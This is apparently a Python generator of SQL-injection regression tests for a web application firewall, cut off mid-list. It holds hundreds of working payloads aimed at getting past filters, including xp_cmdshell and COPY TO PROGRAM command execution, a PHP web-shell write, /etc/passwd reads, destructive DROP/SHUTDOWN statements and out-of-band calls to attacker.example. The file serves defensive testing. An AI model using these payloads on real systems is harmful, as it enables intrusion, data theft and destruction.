"""Blind examples for SQL injection only, one sub-family per CRS 3.3.4 request-rule title at paranoia levels 1-2 (and
four titles CRS 4.x added), written as the positive regression tests of each rule from its title alone, with
benign requests that carry the same words as real users type them.

The angle: what a penetration tester or CTF player types by hand AFTER the obvious payload was blocked. For each
title: the second- and third-choice keyword, function, operator, statement or gadget that does the same job
(MID/ORD for SUBSTRING/ASCII, ELT/MAKE_SET for IF, pg_sleep_for for pg_sleep, mysql.innodb_table_stats for
information_schema, HANDLER and TABLE for SELECT, '-' and '^' for OR 1=1, RLIKE and SOUNDS LIKE for =, ...),
other grammar the target still accepts (other clause orders and quoting, other comment styles, vertical tab and
form feed as whitespace, other ways to end a statement) and payloads kept as short as possible. Each payload names,
in its comment, the real target it works against (MySQL/MariaDB, MSSQL, PostgreSQL, Oracle, SQLite, MongoDB).

Families and sub-families: category "sqli" only; one sub-family per title (44: the 40 CRS 3.3.4 titles, then
"json-based-sqli", "mysql-scientific-notation", "auth-bypass-split-query", "auth-bypass-4-of-4"), 8 to 12
payloads each.

Placements: every payload is sent twice. Once to our real routes, rotating: query of /api/users, form of
/admin/users/search (with csrf_token), JSON of /api/users, cookie, User-Agent, Referer, X-Filter header, a parameter
name, an XML body, a multipart field or filename, the URL path. Once the way a WAF's regression suite sends it
(placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items,
/cgi-bin/test.cgi) with arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, a form body,
a JSON body, an XML body, a raw form-typed body that is not key=value, or in the User-Agent, Referer, X-Custom
header or a cookie. The split-query sub-family sends its two halves as two fields (user and pwd).

Benign: Slack messages and profile bios (chat_and_bio), slash commands, searches, admin-panel prose, names and
addresses, documentation links, all using the same SQL words the way people write them.

Authorship and independence: written from general knowledge and the rule titles alone, before any measurement;
no rule, engine, ruleset regression test or public payload list was read. Measured once on unchanged code, and no
payload was changed after the measurement. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import json
import re
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredtwentythird"

# Each title: (sub-family, payloads). The comment of each payload names the target it works against; the injection
# point is a numeric id (1 ...) or a quoted string (' ...) in a WHERE clause unless the comment says otherwise.
TITLES: list[tuple[str, list[str]]] = [
    # 942100 PL1: SQL Injection Attack Detected via libinjection
    ("libinjection-sqli", [
        "' OR 'x' LIKE 'x",  # MySQL: string context, LIKE instead of =
        "') OR 1=1 LIMIT 1-- -",  # MySQL: closes a parenthesised string, first row only
        "1' AND 1=CONVERT(int,@@version)--",  # MSSQL: error-based, version in the conversion error
        "1 AND extractvalue(1,concat(0x7e,version()))",  # MySQL 5.1+: XPath error leaks version
        "1'||utl_inaddr.get_host_name((SELECT user FROM dual))||'",  # Oracle: error-based via name lookup
        "'||(SELECT sqlite_version())||'",  # SQLite: concatenated subquery
        "1;DECLARE @x varchar(9);SELECT @x",  # MSSQL: stacked batch
        "x' GROUP BY 1 HAVING 1=1--",  # MSSQL: HAVING error enumerates columns
        "1 OR 2>1",  # MySQL/PostgreSQL/SQLite: shortest numeric tautology without '='
        "1)) OR ((1=1",  # MySQL: double parenthesis balance
        "1 AND 1=CAST(current_user AS int)",  # PostgreSQL: cast error leaks the role
    ]),
    # 942140 PL1: SQL Injection Attack: Common DB Names Detected
    ("common-db-names", [
        "1 UNION SELECT table_name,2 FROM mysql.innodb_table_stats",  # MySQL 5.6+: when information_schema is banned
        "1 UNION SELECT table_name,2 FROM sys.schema_table_statistics",  # MySQL 5.7+ sys schema
        "' UNION SELECT name,1 FROM master..sysdatabases--",  # MSSQL: legacy catalog
        "' UNION SELECT name,1 FROM sys.tables--",  # MSSQL 2005+ catalog view
        "1 UNION SELECT relname,2 FROM pg_class",  # PostgreSQL: pg_catalog on the search path
        "1 UNION SELECT datname,2 FROM pg_database",  # PostgreSQL: database names
        "1 AND 1=(SELECT COUNT(*) FROM pg_catalog.pg_tables)",  # PostgreSQL
        "1 UNION SELECT table_name,2 FROM all_tables",  # Oracle
        "1 UNION SELECT username,2 FROM all_users",  # Oracle: schema owners
        "1 UNION SELECT tbl_name,sql FROM sqlite_schema",  # SQLite 3.33+: new name of sqlite_master
        "1 UNION SELECT name,sql FROM sqlite_temp_master",  # SQLite: temporary schema
        "' UNION SELECT name,1 FROM msdb..backupset--",  # MSSQL: backup history database
    ]),
    # 942160 PL1: Detects blind sqli tests using sleep() or benchmark()
    ("blind-sleep-benchmark", [
        "1-SLEEP(5)",  # MySQL: arithmetic keeps the query valid
        "1'XOR(SLEEP(5))XOR'",  # MySQL: string context without spaces
        "1 RLIKE SLEEP(5)",  # MySQL: operator other than AND/OR
        "0'|sleep(5)|'0",  # MySQL: bitwise OR in a string
        "'+sleep(5)+'",  # MySQL: string arithmetic
        "BENCHMARK(5000000,MD5(1))",  # MySQL: CPU-bound delay
        "1 and benchmark(9e6,sha1(1))",  # MySQL: scientific count
        "1 OR sleep/**/(5)",  # MySQL: comment between name and parenthesis
        "(sleep(5))",  # MySQL: bare parenthesised call
        "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",  # MySQL: derived table
        "1 AND benchmark(3e6,encode('a','b'))",  # MySQL 5.x: ENCODE as the cost function
    ]),
    # 942170 PL1: Detects SQL benchmark and sleep injection attempts including conditional queries
    ("conditional-sleep-benchmark", [
        "1 AND (SELECT CASE WHEN 1=1 THEN SLEEP(5) ELSE 0 END)",  # MySQL: CASE instead of IF
        "1 AND ELT(1=1,SLEEP(5))",  # MySQL: ELT as a conditional
        "' OR ELT(2>1,SLEEP(5))#",  # MySQL: string context, hash comment
        "1 AND MAKE_SET(1=1,SLEEP(5))",  # MySQL: MAKE_SET as a conditional
        "SELECT IF(ASCII(MID(user(),1,1))>64,BENCHMARK(3000000,SHA1(1)),0)",  # MySQL: data-dependent delay
        "1;SELECT IF(1,SLEEP(5),1)-- -",  # MySQL: stacked (mysqli_multi_query)
        "1 AND CASE WHEN 1 THEN BENCHMARK(1e7,MD5('a')) END",  # MySQL: CASE with BENCHMARK
        "1 AND IFNULL(NULL,SLEEP(5))",  # MySQL: IFNULL evaluates the second argument
        "1 AND NULLIF(SLEEP(5),1)",  # MySQL
        "1 AND COALESCE(NULL,SLEEP(5))",  # MySQL
        "1 AND FIELD(1,SLEEP(5))",  # MySQL: FIELD evaluates every argument
    ]),
    # 942190 PL1: Detects MSSQL code execution and information gathering attempts
    ("mssql-exec-info-gathering", [
        "';exec master..xp_cmdshell 'ping -n 3 127.0.0.1'--",  # MSSQL: xp_cmdshell through the master prefix
        "1;EXEC sp_configure 'show advanced options',1;RECONFIGURE--",  # MSSQL: enable xp_cmdshell first
        "';DECLARE @o int;EXEC sp_OACreate 'WScript.Shell',@o OUT--",  # MSSQL: OLE automation instead
        "1;exec xp_dirtree '\\\\attacker.example\\a'--",  # MSSQL: UNC path for out-of-band DNS/SMB
        "';EXEC master.dbo.xp_regread 'HKEY_LOCAL_MACHINE','SOFTWARE\\Microsoft\\MSSQLServer','x'--",  # MSSQL
        "' UNION SELECT name,1 FROM master..syslogins--",  # MSSQL: login names
        "1;EXEC('xp_'+'cmdshell ''whoami''')--",  # MSSQL: EXEC of a concatenated string
        "';exec sp_executesql N'SELECT 1'--",  # MSSQL: dynamic SQL
        "1 AND 1=(SELECT IS_SRVROLEMEMBER('sysadmin'))--",  # MSSQL: privilege probe
        "';EXEC xp_fileexist 'C:\\Windows\\win.ini'--",  # MSSQL: file probe
        "' UNION SELECT SYSTEM_USER,DB_NAME()--",  # MSSQL: who and where
        "';DECLARE @c varchar(99);SET @c='whoami';EXEC xp_cmdshell @c--",  # MSSQL: command through a variable
    ]),
    # 942220 PL1: Looking for integer overflow attacks, these are taken from skipfish, except
    # 3.0.00738585072007e-308 is the "magic number" crash
    ("integer-overflow-magic-number", [
        "2147483648",  # MySQL strict INT / C atoi: INT_MAX + 1
        "-2147483649",  # MySQL strict INT: INT_MIN - 1
        "4294967296",  # MySQL INT UNSIGNED: UINT_MAX + 1
        "4294967295",  # 32-bit unsigned max, -1 after a signed cast
        "9223372036854775808",  # MySQL/PostgreSQL BIGINT: out of range
        "-9223372036854775809",  # PostgreSQL bigint: out of range
        "18446744073709551616",  # MySQL BIGINT UNSIGNED: out of range
        "2.2250738585072011e-308",  # PHP < 5.3.5 strtod: endless loop
        "2.2250738585072012e-308",  # Java < 6u24 Double.parseDouble: endless loop
        "3.0.00738585072007e-308",  # the skipfish "magic number"
        "0.22250738585072011e-307",  # PHP strtod: the same value, other exponent
        "4294967297",  # C/PHP 32-bit: wraps to 1
    ]),
    # 942230 PL1: Detects conditional SQL injection attempts
    ("conditional-sqli", [
        "1 AND (CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1",  # PostgreSQL: division by zero on the false branch
        "' AND IIF(1=1,1,1/0)=1--",  # MSSQL 2012+: IIF
        "1 AND CHOOSE(1,1,2)=1",  # MSSQL 2012+: CHOOSE
        "1 AND IF(1=1,1,(SELECT 1 UNION SELECT 2))",  # MySQL: subquery error on the false branch
        "1 AND (SELECT CASE WHEN SUBSTR(user,1,1)='S' THEN 1 ELSE 1/0 END FROM dual)=1",  # Oracle
        "' AND CASE 1 WHEN 1 THEN 1 END='1",  # MySQL: simple CASE form
        "1 AND NVL2(NULL,1,0)=0",  # Oracle: NVL2
        "1 AND DECODE(1,1,1,0)=1",  # Oracle: DECODE as a conditional
        "1 AND (SELECT IIF(LEN(DB_NAME())>1,1,0))=1",  # MSSQL
        "1 and case when 1 then 1 end",  # MySQL: shortest CASE
        "1 AND iif(1,1,0)",  # SQLite 3.32+: iif()
    ]),
    # 942240 PL1: Detects MySQL charset switch and MSSQL DoS attempts
    ("charset-switch-mssql-dos", [
        "';SET NAMES gbk-- -",  # MySQL stacked: multi-byte charset makes \\' a character
        "1;SET CHARACTER SET big5",  # MySQL
        "1;SET character_set_client=sjis-- -",  # MySQL: session variable
        "' OR 'a' COLLATE utf8mb4_general_ci='A'-- -",  # MySQL: collation switch
        "'=CONVERT(name USING latin1)-- -",  # MySQL: charset conversion in a comparison
        "1 UNION SELECT _binary'x'",  # MySQL: charset introducer
        "' OR login=_latin1'admin' COLLATE latin1_general_ci#",  # MySQL: introducer and collation
        "';WAITFOR TIME '23:59:59'--",  # MSSQL: hold the connection until a time
        "1;WHILE 1=1 BEGIN SELECT 1 END--",  # MSSQL: endless loop
        "';DBCC DROPCLEANBUFFERS--",  # MSSQL: flush the buffer cache
        "1;SET CHARSET cp932",  # MySQL: the CHARSET synonym
    ]),
    # 942250 PL1: Detects MATCH AGAINST, MERGE and EXECUTE IMMEDIATE injections
    ("match-against-merge-execute-immediate", [
        "1 AND MATCH(name) AGAINST('+a*' IN BOOLEAN MODE)",  # MySQL full-text, boolean mode
        "' OR MATCH(title,body) AGAINST('x' WITH QUERY EXPANSION)-- -",  # MySQL
        "1 AND MATCH (bio) AGAINST ('\"admin\"' IN NATURAL LANGUAGE MODE)",  # MySQL
        "';MERGE INTO users u USING dual ON (1=1) WHEN MATCHED THEN UPDATE SET role='admin'--",  # Oracle
        "1;MERGE users AS t USING (SELECT 1 AS id) AS s ON t.id=s.id WHEN MATCHED THEN DELETE;--",  # MSSQL
        "';MERGE INTO users USING (VALUES(1)) v(id) ON users.id=v.id WHEN MATCHED THEN DELETE--",  # PostgreSQL 15+
        "';BEGIN EXECUTE IMMEDIATE 'DROP TABLE t'; END;--",  # Oracle PL/SQL block
        "'||dbms_xmlquery.newcontext('begin execute immediate ''grant dba to public''; end;')||'",  # Oracle
        "1;EXECUTE IMMEDIATE 'SELECT SLEEP(5)'",  # MariaDB 10.2+: EXECUTE IMMEDIATE outside PL/SQL
        "';MERGE INTO accounts a USING (SELECT 1 id FROM dual) s ON (a.id=s.id) WHEN NOT MATCHED THEN "
        "INSERT VALUES (1)--",  # Oracle: insert branch
    ]),
    # 942270 PL1: Looking for basic sql injection. Common attack string for mysql, oracle and others
    ("basic-union-select-from", [
        "1 UNION ALL SELECT username FROM users",  # MySQL/PostgreSQL: ALL keeps duplicates
        "1 UNION DISTINCT SELECT pass FROM users",  # MySQL: DISTINCT variant
        "1 UNION(SELECT login FROM users)",  # MySQL: parenthesis instead of a space
        "1 UNION SELECT banner FROM v$version",  # Oracle: version banner
        "0 UNION SELECT NULL FROM dual",  # Oracle: FROM is mandatory
        "') UNION SELECT email FROM accounts-- -",  # MySQL: parenthesised string context
        "1 UNION SELECT sql FROM sqlite_master",  # SQLite: schema text
        "1 UNION/**/SELECT secret/**/FROM api_keys",  # MySQL: comments for spaces
        "1 UNION\nSELECT name\nFROM users",  # PostgreSQL: newlines for spaces
        "1 INTERSECT SELECT id FROM users",  # PostgreSQL/MSSQL/SQLite: INTERSECT instead of UNION
        "1 EXCEPT SELECT id FROM admins",  # PostgreSQL/MSSQL/SQLite: EXCEPT
    ]),
    # 942280 PL1: Detects Postgres pg_sleep injection, waitfor delay attacks and database shutdown attempts
    ("pg-sleep-waitfor-shutdown", [
        "1 AND 1=(SELECT 1 FROM pg_sleep(5))",  # PostgreSQL: pg_sleep as a table function
        "';SELECT pg_sleep_for('5 seconds')--",  # PostgreSQL 9.4+: interval form
        "'||pg_sleep(5)||'",  # PostgreSQL: string concatenation
        "1;SELECT pg_sleep_until(now()+interval '5s')--",  # PostgreSQL 9.4+
        "1;waitfor delay'0:0:5'",  # MSSQL: no space before the literal
        "';WAITFOR TIME '03:00'--",  # MSSQL: WAITFOR TIME
        "1;IF(1=1) WAITFOR DELAY '0:0:5'--",  # MSSQL: conditional delay
        "';SHUTDOWN--",  # MSSQL: stops the instance
        "1;SHUTDOWN WITH NOWAIT;--",  # MSSQL: without checkpoints
        "(select 1 from pg_sleep(5))",  # PostgreSQL: shortest subquery form
        "1;SELECT pg_terminate_backend(pid) FROM pg_stat_activity--",  # PostgreSQL: kill every session
    ]),
    # 942290 PL1: Finds basic MongoDB SQL injection attempts
    ("mongodb-injection", [
        "login[$nin][]=x",  # MongoDB via qs/PHP arrays: not in
        "{\"$gt\":\"\"}",  # MongoDB: every non-empty string
        "[$regex]=^adm",  # MongoDB: prefix match
        "{\"$where\":\"sleep(5000)\"}",  # MongoDB < 4.4 JavaScript: time-based
        "{\"$exists\":true}",  # MongoDB: field present
        "{\"$expr\":{\"$eq\":[1,1]}}",  # MongoDB 3.6+: aggregation expression tautology
        "{\"$or\":[{},{\"a\":\"a\"}]}",  # MongoDB: empty document matches all
        "user[$lte]=z",  # MongoDB via bracket names
        "{\"$in\":[\"admin\",\"root\"]}",  # MongoDB: list of guesses
        "{\"$function\":{\"body\":\"function(){return true}\",\"args\":[],\"lang\":\"js\"}}",  # MongoDB 4.4+
        "pwd[$not][$eq]=x",  # MongoDB: negated equality
    ]),
    # 942320 PL1: Detects MySQL and PostgreSQL stored procedure/function injections
    ("stored-procedure-function", [
        "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",  # MySQL 5.x: PROCEDURE ANALYSE error
        "';CREATE OR REPLACE FUNCTION x() RETURNS void AS $$BEGIN PERFORM pg_sleep(1);END$$ LANGUAGE plpgsql--",
        # PostgreSQL: PL/pgSQL function
        "';DO $$BEGIN PERFORM pg_sleep(5);END$$--",  # PostgreSQL 9.0+: anonymous block
        "1;CALL sys.ps_setup_enable_instrument('wait')",  # MySQL 5.7+: CALL of a sys procedure
        "';CREATE PROCEDURE p() SELECT 1-- -",  # MySQL: procedure definition
        "';CREATE FUNCTION f(text) RETURNS text AS 'select $1' LANGUAGE sql--",  # PostgreSQL: SQL function
        "';CREATE FUNCTION sh(c text) RETURNS text AS $$import os;return os.popen(c).read()$$ LANGUAGE plpython3u--",
        # PostgreSQL: untrusted Python
        "1 AND query_to_xml('select 1',true,true,'') IS NOT NULL",  # PostgreSQL: dynamic SQL through a function
        "';SELECT dblink_connect('host=attacker.example user=x')--",  # PostgreSQL dblink: out of band
        "';CREATE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' "
        "LANGUAGE C STRICT--",  # PostgreSQL < 9: libc system()
        "1;SELECT lo_import('/etc/passwd')",  # PostgreSQL: large-object import
    ]),
    # 942350 PL1: Detects MySQL UDF injection and other data/structure manipulation attempts
    ("udf-data-structure-manipulation", [
        "';CREATE FUNCTION sys_eval RETURNS string SONAME 'udf.so'-- -",  # MySQL: UDF from the plugin dir
        "1;SELECT sys_exec('id')",  # MySQL with lib_mysqludf_sys
        "';ALTER TABLE users ADD is_admin INT DEFAULT 1-- -",  # MySQL: structure change
        "1;TRUNCATE TABLE audit_log#",  # MySQL
        "';INSERT INTO users(login,role) VALUES('x','admin')#",  # MySQL
        "';UPDATE users SET role='admin' WHERE 1#",  # MySQL
        "';REPLACE INTO users VALUES(1,'x','admin')-- -",  # MySQL: REPLACE instead of INSERT
        "';RENAME TABLE users TO u2-- -",  # MySQL
        "1;SELECT 0x41 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'",  # MySQL: planting the UDF library
        "';DROP FUNCTION IF EXISTS sys_exec-- -",  # MySQL: cleaning up
        "1;DELETE FROM sessions",  # MySQL/PostgreSQL: stacked delete
        "';INSERT users SET login='x',role='admin'#",  # MySQL: INSERT ... SET form
    ]),
    # 942360 PL1: Detects concatenated basic SQL injection and SQLLFI attempts
    ("concatenated-sqli-sqllfi", [
        "1 UNION SELECT LOAD_FILE(0x2f6574632f706173737764)",  # MySQL: path in hex
        "' UNION SELECT load_file('/etc/hosts')-- -",  # MySQL: file read
        "' UNION SELECT '<?php system($_GET[c]);?>' INTO DUMPFILE '/var/www/s.php'-- -",  # MySQL: web shell
        "1 INTO OUTFILE '/tmp/x' LINES TERMINATED BY 0x0a",  # MySQL: write the result set
        "1;SELECT pg_read_file('/etc/passwd',0,200)",  # PostgreSQL superuser
        "';COPY t FROM '/etc/passwd'--",  # PostgreSQL
        "';COPY (SELECT '') TO PROGRAM 'id'--",  # PostgreSQL 9.3+: command execution
        "1;SELECT * FROM OPENROWSET(BULK 'C:\\Windows\\win.ini',SINGLE_CLOB) x",  # MSSQL: file read
        "1;LOAD DATA INFILE '/etc/passwd' INTO TABLE t",  # MySQL
        "';ATTACH DATABASE '/var/www/x.php' AS p;CREATE TABLE p.t(c text);--",  # SQLite: file write
        "1 UNION SELECT pg_ls_dir('.')",  # PostgreSQL: directory listing
    ]),
    # 942500 PL1: MySQL in-line comment detected
    ("mysql-inline-comment", [
        "1/*!50000UNION*//*!50000SELECT*/2",  # MySQL: versioned comments, no spaces
        "'/*!or*/1-- -",  # MySQL: executable comment around OR
        "1 /*!12345and*/ 1=1",  # MySQL: arbitrary version number
        "/*!SELECT*/ 1",  # MySQL
        "1/*!00000or*/1",  # MySQL: version zero
        "1 /*M!100000 or 1*/",  # MariaDB: MariaDB-only executable comment
        "1 /*!AND*/ SLEEP(1)",  # MySQL
        "x'/*!32302 OR 1*/-- -",  # MySQL: version with a space
        "/*!50001 select @@version*/",  # MySQL
        "1 /*!OR 1=1*/",  # MySQL: whole condition inside
        "1/*!*/OR/*!*/1",  # MySQL: empty executable comments for spaces
    ]),
    # 942110 PL2: SQL Injection Attack: Common Injection Testing Detected
    ("common-injection-testing", [
        "''",  # MySQL/any: doubled quote, an error on an odd count
        "'--",  # MySQL/MSSQL: close and comment
        "1'#",  # MySQL: hash comment
        "')--",  # MSSQL/PostgreSQL: parenthesised context
        "\"))--",  # MySQL with ANSI quotes off: double-quoted context
        "';--",  # MSSQL: end the statement
        "1'/*",  # MySQL: unterminated comment error
        "\\'",  # MySQL: escape probe
        "1' -- -",  # MySQL: comment needs the trailing space
        "'+'",  # MSSQL: string concatenation probe
        "'||'",  # Oracle/PostgreSQL: concatenation probe
    ]),
    # 942120 PL2: SQL Injection Attack: SQL Operator Detected
    ("sql-operator", [
        "1 AND 2 RLIKE 2",  # MySQL: RLIKE
        "1 XOR 1",  # MySQL: XOR
        "x' SOUNDS LIKE 'x",  # MySQL: SOUNDS LIKE
        "1 AND 1<=>1",  # MySQL: null-safe equality
        "1 DIV 1",  # MySQL: integer division
        "1 NOT BETWEEN 0 AND 0",  # MySQL/PostgreSQL
        "1 REGEXP '^1'",  # MySQL
        "'a' LIKE BINARY 'a'",  # MySQL
        "1 AND 'a' ILIKE 'A'",  # PostgreSQL
        "1 AND 'a' SIMILAR TO 'a'",  # PostgreSQL
        "1 AND 'ab' ~ 'a'",  # PostgreSQL: regex operator
        "1 OR 1 IS NOT NULL",  # any
    ]),
    # 942130 PL2: SQL Injection Attack: SQL Tautology Detected
    ("sql-tautology", [
        "1 OR 2>=2",  # MySQL/PostgreSQL
        "1 OR 3<=3",  # MySQL/PostgreSQL
        "' OR 'k'<>'j",  # MySQL/MSSQL: string inequality
        "' OR 'x'='x",  # MySQL
        "1 OR 5=5",  # any
        "' or \"a\"=\"a",  # MySQL: double-quoted strings in a single-quoted context
        "1 or 0x1=0x1",  # MySQL: hex literals
        "' or 1 like 1-- -",  # MySQL: LIKE tautology
        "1 AND 7 IN (7)",  # any: IN tautology
        "' or 'z' between 'a' and 'z",  # MySQL: BETWEEN tautology
        "1 OR 'a'!='b'",  # MySQL/PostgreSQL
    ]),
    # 942150 PL2: SQL Injection Attack
    ("sql-injection-attack-942150", [
        "1 AND ORD(MID(user(),1,1))>64",  # MySQL: ORD/MID for ASCII/SUBSTRING
        "1 AND UNICODE(SUBSTRING(SYSTEM_USER,1,1))>64",  # MSSQL
        "1 AND LENGTH(database())>1",  # MySQL
        "1 AND CHAR_LENGTH(current_user)>1",  # MySQL/PostgreSQL
        "1 AND INSTR(version(),'8')>0",  # MySQL
        "1 AND hex(user())>0",  # MySQL
        "1 AND GTID_SUBSET(@@version,1)",  # MySQL 5.6+: error-based
        "' AND POSITION('p' IN current_user)>0--",  # PostgreSQL
        "1 AND STRCMP(LEFT(user(),1),'r')=0",  # MySQL
        "1 AND UPDATEXML(1,CONCAT(0x7e,user()),1)",  # MySQL 5.1+: error-based
        "1 AND LOCATE('M',@@version)>0",  # MySQL
    ]),
    # 942180 PL2: Detects basic SQL authentication bypass attempts 1/3
    ("auth-bypass-1-of-3", [
        "admin'-- -",  # MySQL: comment out the password check
        "admin'#",  # MySQL
        "' or ''='",  # MySQL: empty-string tautology
        "'or''='",  # MySQL: the same without spaces
        "' or 1-- -",  # MySQL: numeric truth
        "\"or\"\"=\"",  # MySQL: double-quoted variant
        "admin' or '1",  # MySQL: trailing string truth
        "'||1#",  # MySQL: || is OR by default
        "' or true#",  # MySQL/PostgreSQL: TRUE literal
        "') or ('x')=('x",  # MySQL: parenthesised
        "1' or 1 limit 1#",  # MySQL: first user only
    ]),
    # 942200 PL2: Detects MySQL comment-/space-obfuscated injections and backtick termination
    ("comment-space-obfuscation-backtick", [
        "1/**/OR/**/1",  # MySQL: comments for spaces
        "1/*foo*/AND/*bar*/2>1",  # MySQL: text inside the comments
        "'OR(1)#",  # MySQL: parenthesis instead of a space
        "1\x0bUNION\x0bSELECT\x0b1",  # MySQL: vertical tab is whitespace
        "1\x0cOR\x0c1",  # MySQL: form feed is whitespace
        "1#x\nOR 1=1",  # MySQL: hash comment ended by a newline
        "1-- x\nUNION SELECT 1",  # MySQL: double-dash comment ended by a newline
        "admin`-- -",  # MySQL: backtick termination of an identifier context
        "` OR 1=1-- -",  # MySQL: backtick-quoted ORDER BY / column injection
        "x`) OR 1#",  # MySQL: backtick inside a parenthesis
        "1/*!*/AND/*!*/1",  # MySQL: empty executable comments
    ]),
    # 942210 PL2: Detects chained SQL injection attempts 1/2
    ("chained-sqli-1-of-2", [
        "1);SELECT 1-- -",  # MySQL/PostgreSQL: close the call, stack a statement
        "1';DECLARE @a int-- ",  # MSSQL
        "1 && (SELECT 1)",  # MySQL: && is AND
        "1 || (SELECT 1)",  # MySQL: || is OR
        "1) AND (SELECT 1)=(1",  # MySQL: balanced
        "'); UPDATE users SET x=1-- ",  # PostgreSQL: stacked update
        "1;SHOW TABLES",  # MySQL: stacked SHOW
        "1;HANDLER users OPEN",  # MySQL: HANDLER reads rows without SELECT
        "1;TABLE users",  # MySQL 8.0.19+: TABLE statement
        "1 AND (1)=(1)",  # any
        "1';EXEC('SELECT 1')--",  # MSSQL
    ]),
    # 942260 PL2: Detects basic SQL authentication bypass attempts 2/3
    ("auth-bypass-2-of-3", [
        "'-'",  # MySQL: '' - '' = 0 matches every non-numeric login
        "'*'",  # MySQL: multiplication, same effect
        "'^'",  # MySQL: XOR
        "'&'",  # MySQL: bitwise AND
        "'|'",  # MySQL: bitwise OR
        "'<<'",  # MySQL: shift, '' << '' = 0
        "'>>'",  # MySQL: shift the other way
        "x' OR name LIKE '%",  # MySQL: wildcard
        "admin' AND 1 LIKE 1#",  # MySQL
        "' || 'a' REGEXP '.*",  # MySQL: regex truth
    ]),
    # 942300 PL2: Detects MySQL comments, conditions and ch(a)r injections
    ("comments-conditions-char", [
        "' OR name=CHAR(97,100,109,105,110)#",  # MySQL: 'admin' built from codes
        "1 AND CHR(65)||CHR(66)='AB'",  # Oracle/PostgreSQL: CHR
        "'+CHAR(0x61)+'",  # MSSQL: CHAR with hex
        "1 AND CHAR(49 USING utf8)=1",  # MySQL: CHAR ... USING
        "'||chr(97)||'",  # PostgreSQL/Oracle
        "1)) OR ((1#",  # MySQL: condition with hash comment
        "' OR 1 -- x",  # MySQL: condition and comment
        "' + NCHAR(65) + '",  # MSSQL: NCHAR
        "1 AND 0x31=CHAR(49)#",  # MySQL
        "1 AND ASCII(CHAR(65))=65-- -",  # MySQL
        "' OR char(0x61)='a'/*",  # MySQL: open comment
    ]),
    # 942310 PL2: Detects chained SQL injection attempts 2/2
    ("chained-sqli-2-of-2", [
        "'||(SELECT 1)||'",  # Oracle/PostgreSQL
        "'+(SELECT TOP 1 name FROM sysusers)+'",  # MSSQL
        "1*(SELECT 1)",  # MySQL
        "(SELECT(1))",  # MySQL: no spaces
        "'-(SELECT 1)-'",  # MySQL
        "1 AND (SELECT 1)LIKE 1",  # MySQL
        "\"||(select 1)||\"",  # SQLite: double quotes fall back to strings
        "1^(SELECT 0)",  # MySQL: XOR
        "1%(SELECT 2)",  # MySQL: modulo
        "1 AND(SELECT 1)",  # MySQL
        "x'||(SELECT user FROM dual)||'",  # Oracle
    ]),
    # 942330 PL2: Detects classic SQL injection probings 1/3
    ("classic-probing-1-of-3", [
        "' IS NULL--",  # MSSQL/PostgreSQL
        "'IS NOT NULL#",  # MySQL
        "' and ascii('a')=97--",  # MSSQL/PostgreSQL
        "\" or \"\"-\"",  # MySQL: double-quoted arithmetic
        "' xor 1#",  # MySQL
        "'or'1'like'1",  # MySQL: no spaces
        "\"and 1=1",  # MySQL: double-quoted context
        "' rlike 1#",  # MySQL
        "x' div 1#",  # MySQL
        "' having 1=1--",  # MSSQL
        "1' and 'a' in ('a",  # MySQL
    ]),
    # 942340 PL2: Detects basic SQL authentication bypass attempts 3/3
    ("auth-bypass-3-of-3", [
        "' OR name IN ('admin')#",  # MySQL
        "'=0#",  # MySQL: '' = 0 is true, every non-numeric login
        "' OR 0=0 #",  # MySQL
        "admin' AND '1'<'2",  # MySQL
        "' OR username IS NOT NULL--",  # PostgreSQL/MSSQL
        "') OR 1#",  # MySQL
        "\" OR \"\"=\"",  # MySQL
        "'||'1'||'",  # MySQL: OR chain
        "admin')-- -",  # MySQL: parenthesised login
        "' OR 1 IN (1)-- -",  # MySQL
    ]),
    # 942361 PL2: Detects basic SQL injection based on keyword alter or union
    ("alter-or-union-keyword", [
        "1 UNION ALL SELECT 1",  # any
        "' UNION ALL(SELECT 1)#",  # MySQL
        "1 UNION DISTINCT SELECT 1",  # MySQL
        "'; ALTER USER root IDENTIFIED BY 'x'#",  # MySQL 5.7+
        "';ALTER LOGIN sa WITH PASSWORD='x'--",  # MSSQL
        "';ALTER ROLE app SUPERUSER--",  # PostgreSQL
        "1;ALTER SYSTEM SET log_statement='none'",  # PostgreSQL 9.4+
        "')union(select(1))#",  # MySQL: no spaces
        "1 UNION VALUES(1)",  # PostgreSQL/SQLite: VALUES instead of SELECT
        "0 UNION TABLE mysql.user",  # MySQL 8.0.19+
        "1 union select@@version",  # MySQL: no space before @@
    ]),
    # 942370 PL2: Detects classic SQL injection probings 2/3
    ("classic-probing-2-of-3", [
        "'*1#",  # MySQL
        "'div'1",  # MySQL
        "\"^\"",  # MySQL: double-quoted XOR
        "'%1#",  # MySQL
        "' + 0 + '",  # MySQL
        "'<>0#",  # MySQL
        "\"<>\"",  # MySQL
        "'!='a",  # MySQL/PostgreSQL
        "' -0#",  # MySQL
        "'>'0",  # MySQL
        "'mod'1",  # MySQL: MOD as a word
        "\"||\"1",  # MySQL
    ]),
    # 942380 PL2: SQL Injection Attack
    ("sql-injection-attack-942380", [
        "1 ORDER BY 9-- -",  # MySQL: column count
        "1 GROUP BY 1,2#",  # MySQL: column count with GROUP BY
        "' HAVING 1=1--",  # MSSQL
        "' AND EXISTS(SELECT 1 FROM users)--",  # any: table probe
        "1 AND (SELECT TOP 1 name FROM sysobjects)>0",  # MSSQL
        "1 LIMIT 1 OFFSET 1",  # MySQL/PostgreSQL
        "1 ORDER BY (SELECT 1)",  # MySQL
        "' AND NOT EXISTS(SELECT * FROM admins)-- -",  # MySQL
        "1 GROUP BY id HAVING COUNT(*)>0",  # any
        "1 INTO @a",  # MySQL: SELECT ... INTO a variable
    ]),
    # 942390 PL2: SQL Injection Attack
    ("sql-injection-attack-942390", [
        "1 XOR 1=1",  # MySQL
        "' AND 1 IN (1)-- -",  # MySQL
        "' OR 2 BETWEEN 1 AND 3-- -",  # MySQL
